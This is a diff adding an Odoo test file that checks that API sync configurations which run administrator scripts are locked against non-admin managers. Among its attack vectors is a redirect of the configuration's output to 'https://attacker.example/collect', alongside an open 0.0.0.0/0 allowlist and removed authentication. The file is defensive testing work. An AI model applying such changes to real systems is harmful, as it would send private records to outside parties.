@@ -1,0 +1,268 @@
+"""An administrator's script runs only where an administrator put it: a
+configuration that holds a script, that reaches one through its Mapping Models,
+or that a scripted configuration maps through, is changed only by Settings
+administrators, with everything its plan is built from."""
+
+import logging
+
+from odoo import Command
+from odoo.exceptions import AccessError
+from odoo.tests import Form, HttpCase, new_test_user, tagged
+from odoo.tools import mute_logger
+
+from .common import BjApiSyncCase, BjApiSyncTestMixin
+
+_logger = logging.getLogger(__name__)
+
+LOCKED = "Only Settings administrators may change configuration"
+
+
+@tagged("post_install", "-at_install")
+class TestScriptLock(BjApiSyncCase):
+    @classmethod
+    def setUpClass(cls):
+        super().setUpClass()
+        cls.admin = new_test_user(cls.env, login="bj_lock_admin", groups="base.group_system")
+        # Countries, mapped by the administrator's scripted configuration.
+        cls.countries = cls.make_country_config(endpoint="lock-countries")
+        cls.scripted = cls.make_config(
+            name="Admin scripted", endpoint="lock-scripted", authorization_type="bearer_token",
+            bearer_token="lock-token-value", filter_domain="[('is_company', '=', False)]",
+            header_ids=[Command.create({"key": "X-Admin", "value": "1"})],
+            param_ids=[Command.create({"key": "q", "field_id": cls.partner_field("name").id})],
+            lines=[("id", "id", {"is_identifier": True}),
+                   ("name", "name", None),
+                   ("comment", "note", {"value_type": "python_plain",
+                                        "python_script": "(data.get('note') or '').upper()"}),
+                   ("country_id", "country", {"value_type": "relational_mapping",
+                                              "mapping_config_id": cls.countries.id})],
+        )
+        cls.script_line = cls.scripted.line_ids.filtered(lambda line: line.has_script)
+        cls.plain_line = cls.scripted.line_ids.filtered(lambda line: line.external_key == "name")
+        # An administrator's configuration of companies that maps through the scripted one.
+        cls.reaching = cls.make_config(
+            name="Admin reaching", endpoint="lock-reaching",
+            lines=[("id", "id", {"is_identifier": True}),
+                   ("child_ids", "contacts", {"value_type": "relational_mapping",
+                                              "mapping_config_id": cls.scripted.id})],
+        )
+        # The manager's own configuration, with no script anywhere.
+        cls.own = cls.make_config(
+            name="Manager's", endpoint="lock-own", run_as_user_id=cls.sync_manager.id,
+            user_id=cls.sync_manager.id,
+            lines=[("id", "id", {"is_identifier": True}), ("name", "name", None)],
+        )
+        cls.parent_field = cls.env["ir.model.fields"]._get("res.partner", "parent_id")
+
+    def setUp(self):
+        super().setUp()
+        self.actor = self.sync_manager
+
+    def as_manager(self, records):
+        """``records`` as the user the vectors run as (the manager, unless a test
+        says otherwise)."""
+        return records.with_user(self.actor)
+
+    def vectors(self):
+        """The attack as reported, then further ways to the same records."""
+        scripted, line = self.as_manager(self.scripted), self.as_manager(self.script_line)
+        users_model = self.env["ir.model"]._get_id("res.users")
+        lines = self.env["bj.api.sync.config.line"].with_user(self.actor)
+        return {
+            # As reported.
+            "the script line's field": lambda: line.write(
+                {"field_id": self.partner_field("website").id}),
+            "the Model, to res.users": lambda: scripted.write({"model_id": users_model}),
+            "In to Out with the manager's URL": lambda: scripted.write(
+                {"request_type": "out", "request_url": "https://attacker.example/collect",
+                 "http_method_ids": [Command.set(self.method_post.ids)]}),
+            "No Auth": lambda: scripted.write({"authorization_type": "no_auth"}),
+            "the endpoint": lambda: scripted.write({"endpoint": "taken-over"}),
+            "the Filter Domain": lambda: scripted.write({"filter_domain": "[]"}),
+            "the manager's configuration mapped through it": lambda: lines.create({
+                "config_id": self.own.id, "field_id": self.parent_field.id,
+                "value_type": "relational_mapping", "mapping_config_id": self.scripted.id,
+                "external_key": "parent"}),
+            # Further ways.
+            "an existing line of the manager's re-pointed": lambda: self.as_manager(
+                self.own.line_ids[1]).write({
+                    "field_id": self.parent_field.id, "value_type": "relational_mapping",
+                    "mapping_config_id": self.scripted.id}),
+            "a new configuration mapped through it": lambda: self.env[
+                "bj.api.sync.config"].with_user(self.actor).create({
+                    "name": "Through", "request_type": "in", "endpoint": "lock-through",
+                    "model_id": self.partner_model.id,
+                    "line_ids": [Command.create({"field_id": self.parent_field.id,
+                                                 "value_type": "relational_mapping",
+                                                 "mapping_config_id": self.scripted.id,
+                                                 "is_identifier": True})]}),
+            "a one2many command on the manager's own": lambda: self.as_manager(self.own).write({
+                "line_ids": [Command.create({"field_id": self.parent_field.id,
+                                             "value_type": "relational_mapping",
+                                             "mapping_config_id": self.scripted.id})]}),
+            "web_save with a line update": lambda: scripted.web_save({"line_ids": [
+                Command.update(self.plain_line.id, {"external_key": "full_name"})]},
+                specification={}),
+            "the name": lambda: scripted.write({"name": "Renamed"}),
+            "archived": lambda: scripted.action_archive(),
+            "deleted": lambda: scripted.unlink(),
+            "the HTTP methods": lambda: scripted.write(
+                {"http_method_ids": [Command.set(self.method_get.ids)]}),
+            "the IP allowlist": lambda: scripted.write({"ip_allowlist": "0.0.0.0/0"}),
+            "a new Bearer Token": lambda: scripted.action_generate_bearer_token(),
+            "the script turned off": lambda: line.write({"value_type": "plain"}),
+            "the script line deleted": lambda: line.unlink(),
+            "a plain line changed": lambda: self.as_manager(self.plain_line).write(
+                {"external_key": "full_name"}),
+            "a plain line deleted": lambda: self.as_manager(self.plain_line).unlink(),
+            "a line added": lambda: lines.create({
+                "config_id": self.scripted.id, "field_id": self.partner_field("email").id}),
+            "a line loaded into it": lambda: self.raise_load(lines.load(
+                ["config_id/.id", "field_id/.id", "external_key"],
+                [[str(self.scripted.id), str(self.partner_field("email").id), "mail"]])),
+            "a header added": lambda: self.env["bj.api.sync.header"].with_user(
+                self.actor).create({"config_id": self.scripted.id, "key": "X-Evil"}),
+            "a header changed": lambda: self.as_manager(self.scripted.header_ids).write(
+                {"value": "2"}),
+            "a header deleted": lambda: self.as_manager(self.scripted.header_ids).unlink(),
+            "a parameter added": lambda: self.env["bj.api.sync.param"].with_user(
+                self.actor).create({"config_id": self.scripted.id, "key": "all",
+                                           "field_id": self.partner_field("email").id}),
+            "a parameter changed": lambda: self.as_manager(self.scripted.param_ids).write(
+                {"domain_operator": "!="}),
+            "a parameter deleted": lambda: self.as_manager(self.scripted.param_ids).unlink(),
+            "duplicated": lambda: scripted.copy({"endpoint": "lock-copy"}),
+            "a configuration reaching it": lambda: self.as_manager(self.reaching).write(
+                {"filter_domain": "[]"}),
+            "its mapping to it removed": lambda: self.as_manager(
+                self.reaching.line_ids[1]).unlink(),
+            "a configuration it maps through": lambda: self.as_manager(self.countries).write(
+                {"model_id": users_model}),
+            "a line of it": lambda: self.as_manager(self.countries.line_ids[1]).write(
+                {"external_key": "label"}),
+            "a shared HTTP method renamed": lambda: self.as_manager(self.method_get).write(
+                {"name": "POST"}),
+            "its lines taken by the manager's configuration": lambda: self.as_manager(
+                self.own).write({"line_ids": [Command.set(self.scripted.line_ids.ids)]}),
+            "a script waiting on a plain line": lambda: self.as_manager(
+                self.own.line_ids[1]).write({"python_script": "'x'"}),
+            "a script as the manager's personal default": lambda: self.default_script(),
+        }
+
+    def default_script(self):
+        self.env["ir.default"].set("bj.api.sync.config.line", "python_script", "'x'",
+                                   user_id=self.actor.id)
+        self.as_manager(self.env["bj.api.sync.config.line"]).create(
+            {"config_id": self.own.id, "field_id": self.partner_field("email").id})
+
+    @staticmethod
+    def raise_load(result):
+        errors = [message["message"] for message in result["messages"]
+                  if message["type"] == "error"]
+        if any("Only Settings administrators" in error for error in errors):
+            raise AccessError("\n".join(errors))
+        if errors:
+            raise ValueError("\n".join(errors))
+
+    def snapshot(self):
+        configs = self.scripted | self.reaching | self.countries | self.own
+        return [(config.read()[0], config.line_ids.read(), config.header_ids.read(),
+                 config.param_ids.read()) for config in configs.with_context(active_test=False)]
+
+    def test_manager_is_refused_every_vector(self):
+        before = self.snapshot()
+        vectors = self.vectors()
+        for name, call in vectors.items():
+            with self.subTest(vector=name), self.assertRaisesRegex(
+                    AccessError, "Only Settings administrators"), self.env.cr.savepoint():
+                call()
+        self.env.invalidate_all()
+        self.assertEqual(self.snapshot(), before)
+        _logger.info("Script lock: %s manager vectors refused.", len(vectors))
+
+    @mute_logger("odoo.sql_db")  # a deletion the reaching configuration's line restricts
+    def test_administrators_do_it_all(self):
+        self.actor = self.admin
+        for name, call in self.vectors().items():
+            with self.subTest(vector=name):
+                savepoint = self.env.cr.savepoint()
+                try:
+                    call()
+                except AccessError as error:
+                    # Moving a line to another configuration is nobody's (field table).
+                    if "is set when the record is created" not in str(error):
+                        self.fail(f"{name}: {error}")
+                except Exception:  # noqa: BLE001 - constraints: not the lock's concern
+                    _logger.debug("vector %s", name, exc_info=True)
+                finally:
+                    savepoint.close(rollback=True)
+
+    def test_http_methods_are_administrators(self):
+        """Every configuration shares them, scripted ones included."""
+        methods = self.as_manager(self.env["bj.http.method"])
+        for name, call in {"create": lambda: methods.create({"name": "PATCH"}),
+                           "rename": lambda: self.as_manager(self.method_post).write(
+                               {"name": "GET"}),
+                           "delete": lambda: self.as_manager(self.method_delete).unlink()}.items():
+            with self.subTest(name), self.assertRaises(AccessError), self.env.cr.savepoint():
+                call()
+        self.assertTrue(self.method_delete.exists())
+        self.method_put.with_user(self.admin).write({"sequence": 99})
+        self.env["bj.http.method"].with_user(self.admin).create({"name": "PATCH"})
+
+    def test_the_manager_keeps_configurations_without_scripts(self):
+        own = self.as_manager(self.own)
+        own.write({"filter_domain": "[('is_company', '=', True)]", "authorization_type":
+                   "no_auth"})
+        self.as_manager(self.env["bj.api.sync.config.line"]).create({
+            "config_id": self.own.id, "field_id": self.parent_field.id,
+            "value_type": "relational_mapping", "external_key": "parent",
+            "mapping_config_id": self.make_partner_config(endpoint="lock-plain").id})
+        own.copy({"endpoint": "lock-own-copy"})
+        self.assertFalse(own.script_locked)
+
+    def test_the_form_is_read_only_for_the_manager(self):
+        form = Form(self.scripted.with_user(self.sync_manager))
+        for name in ("name", "request_type", "model_id", "filter_domain", "endpoint",
+                     "authorization_type", "line_ids", "header_ids", "param_ids"):
+            self.assertTrue(form._get_modifier(name, "readonly"), name)
+        with self.assertRaises(AssertionError):
+            form.name = "Renamed"
+        admin_form = Form(self.scripted.with_user(self.admin))
+        self.assertFalse(admin_form._get_modifier("name", "readonly"))
+        self.assertFalse(Form(self.own.with_user(self.sync_manager))._get_modifier(
+            "name", "readonly"))
+
+    def test_the_form_tells_the_manager(self):
+        for user, locked in ((self.sync_manager, True), (self.admin, False)):
+            configs = self.env["bj.api.sync.config"].with_user(user)
+            with self.subTest(user=user.login):
+                self.assertEqual(configs.browse(self.scripted.id).script_locked, locked)
+                self.assertEqual(configs.browse(self.reaching.id).script_locked, locked)
+                self.assertEqual(configs.browse(self.countries.id).script_locked, locked)
+                self.assertFalse(configs.browse(self.own.id).script_locked)
+                arch = configs.get_views([(False, "form")])["views"]["form"]["arch"]
+                self.assertIn('invisible="not script_locked"', arch)
+                self.assertIn("Only Settings administrators can change this configuration", arch)
+                for name in ("name", "model_id", "filter_domain", "line_ids", "header_ids",
+                             "param_ids", "endpoint", "authorization_type"):
+                    self.assertRegex(arch, rf'<field name="{name}"[^>]*readonly="script_locked')
+
+
+@tagged("post_install", "-at_install")
+class TestScriptLockForm(BjApiSyncTestMixin, HttpCase):
+    """In Chromium, as an API Sync Manager: the banner, and a read-only form."""
+
+    @classmethod
+    def setUpClass(cls):
+        super().setUpClass()
+        cls.setup_bj_fixtures()
+        cls.config = cls.make_config(
+            name="Admin scripted", endpoint="lock-form", authorization_type="bearer_token",
+            bearer_token="lock-form-token",
+            lines=[("id", "id", {"is_identifier": True}),
+                   ("comment", "note", {"value_type": "python_plain", "python_script": "'x'"})])
+
+    def test_the_form_is_read_only_with_a_banner(self):
+        self.start_tour(f"/odoo/action-bjet_api_sync.action_bj_api_sync_config/{self.config.id}",
+                        "bjet_api_sync_locked_form_tour", login=self.sync_manager.login)
